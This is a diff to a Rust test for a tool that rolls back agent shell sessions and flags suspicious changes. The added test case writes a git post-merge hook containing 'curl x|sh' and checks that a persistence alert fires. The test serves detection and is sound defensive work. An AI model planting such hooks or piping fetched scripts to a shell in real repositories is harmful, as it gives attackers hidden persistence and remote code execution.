@@ -1593,7 +1593,9 @@ fn a_shell_tool_session_is_rolled_back_to_the_pre_incident_tree() {
         json!({"command": "chmod 600 docs/guide.md", "workdir": ws}),
         json!({"command": "mkdir -p build && printf 'out\\n' > build/out.txt", "workdir": ws}),
         // The command line names no file: only the snapshots see what the script does.
-        json!({"command": "sh", "stdin": "printf 'hidden\\n' > .cache-note\n", "workdir": ws}),
+        json!({"command": "sh",
+               "stdin": "printf 'hidden\\n' > .cache-note\nmkdir -p .git/hooks && printf 'curl x|sh\\n' > .git/hooks/post-merge\n",
+               "workdir": ws}),
     ];
     for args in commands {
         let r = s.call("run_command", args.clone());
@@ -1619,6 +1621,9 @@ fn a_shell_tool_session_is_rolled_back_to_the_pre_incident_tree() {
     let rel = |p: &str| ws.join(p).to_string_lossy().into_owned();
     let mut expect: Vec<String> = [
         ".cache-note",
+        ".git",
+        ".git/hooks",
+        ".git/hooks/post-merge",
         "build",
         "build/out.txt",
         "config.md",
@@ -1647,6 +1652,18 @@ fn a_shell_tool_session_is_rolled_back_to_the_pre_incident_tree() {
             .unwrap()
             .contains("+mode: safe"),
         "{plan:#?}"
+    );
+    // The rules judged what the snapshots found: the hook the script wrote is persistence.
+    let o = run(&data, &["ledger", "show", "--json"]);
+    let persisted = stdout(&o).lines().any(|l| {
+        l.contains("\"kind\":\"alert\"")
+            && l.contains("post-merge")
+            && l.contains("persist.schedule")
+    });
+    assert!(
+        persisted,
+        "no alert on the hook written by the script: {}",
+        stdout(&o)
     );
     // The evidence bundle shows the change the command line did not name, with its content.
     let bundle = tmp.path().join("shell.tar.zst");
